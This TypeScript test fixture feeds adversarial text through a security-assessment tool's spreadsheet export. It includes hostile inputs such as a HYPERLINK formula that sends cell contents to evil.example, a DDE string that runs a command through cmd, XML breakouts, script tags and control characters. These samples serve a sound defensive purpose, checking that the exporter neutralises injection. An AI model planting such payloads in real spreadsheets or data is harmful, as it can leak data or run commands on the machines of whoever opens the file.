import type { Finding, FindingsFile } from '../../../src/assessment/types';
import type { Report } from '../../../src/reports/content/report';
import { example, failures, rating, reportOf, thin } from './example';

/** Texts that a spreadsheet, an XML reader or a person could take for something else. */
export const hostileTexts = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  "'=1+1",
  '＝1+1',
  '<script>alert(1)</script>&amp;<c t="s"><v>0</v></c>',
  ']]><sheet/>',
  '_x0041_ and _x000D_',
  '\u202Eevil\u202C \u0000\u0007\u001B[31mred\u001B[0m \uD800 \uFFFE end',
  `${'W'.repeat(10_000)}`,
  '😀👩‍👩‍👧 emoji',
  'line one\nline two\r\n  and three  ',
  '&L&"Arial"&72 header code &P',
  `${'x'.repeat(40_000)}`,
  '*?~ 100%',
];

/** A file in which each text that a person may write is one of those. */
export function hostileFile(): FindingsFile {
  const findings = hostileTexts.map(
    (text, at): Finding => ({
      id: at % 2 === 0 ? text : `H-${at}`,
      title: text,
      recommendation: text,
      consequence: text,
      status: at % 3 === 0 ? 'open' : at % 3 === 1 ? 'inProgress' : 'accepted',
      focusArea: 'security',
      actionArea: text,
      rating: rating((at % 5) + 1, 5, (at % 4) + 1),
      affected: [text, { name: text, detail: text }],
      observed: text,
      owner: text,
      due: '2026-11-01',
      workItem: at % 2 === 0 ? text : `https://evil.example/${text}`,
      acceptance: { by: text, reason: text, expires: '2027-01-01' },
      history: [{ on: '2026-11-01', by: text, note: text, status: 'open' }],
    }),
  );
  const [a, b, c] = [hostileTexts[0]!, hostileTexts[15]!, hostileTexts[11]!];
  return {
    formatVersion: 1,
    customer: a,
    title: c,
    environment: b,
    classification: b,
    assessors: [a, b, c],
    assessedOn: '2026-11-20',
    summary: hostileTexts[8]!,
    checklists: ['active-directory@=1+1'],
    findings,
  };
}

/** So many findings, each with so many affected objects. */
export function manyFindings(count: number, objects: number): FindingsFile {
  const states = ['open', 'inProgress', 'open', 'resolved', 'accepted', 'open', 'verified', 'open'] as const;
  return {
    formatVersion: 1,
    customer: 'Contoso Ltd',
    environment: 'contoso.com',
    assessedOn: '2026-11-20',
    findings: Array.from(
      { length: count },
      (_, at): Finding => ({
        id: `F-${String(at + 1).padStart(4, '0')}`,
        title: `Setting number ${at + 1} of the directory is in its expected state on every server`,
        recommendation: `Set value ${at} in the policy and wait for its replication.`,
        status: states[at % states.length]!,
        focusArea: (['security', 'availability', 'operations', 'upgrade'] as const)[at % 4]!,
        rating: rating((at % 5) + 1, (Math.floor(at / 5) % 5) + 1, (Math.floor(at / 25) % 5) + 1),
        affected: Array.from({ length: objects }, (_, object) => `server${object}.contoso.com`),
        observed: `Value ${at} was found.`,
        owner: `team-${at % 17}@contoso.com`,
        ...(at % 3 > 0 && { due: `2026-${at % 2 === 0 ? '11' : '12'}-${String((at % 28) + 1).padStart(2, '0')}` }),
      }),
    ),
  };
}

/** What the workbook has to stand, by name. */
export const xlsxCases: Readonly<Record<string, () => Report>> = {
  example: () => example('plan'),
  executive: () => example('executive'),
  german: () => example('plan', { language: 'de' }),
  empty: () => reportOf({}, 'plan'),
  thin: () => thin('plan'),
  failures: () => failures('plan', { language: 'de' }),
  hostile: () => reportOf(hostileFile(), 'plan'),
  many: () => reportOf(manyFindings(2_000, 10), 'plan'),
};
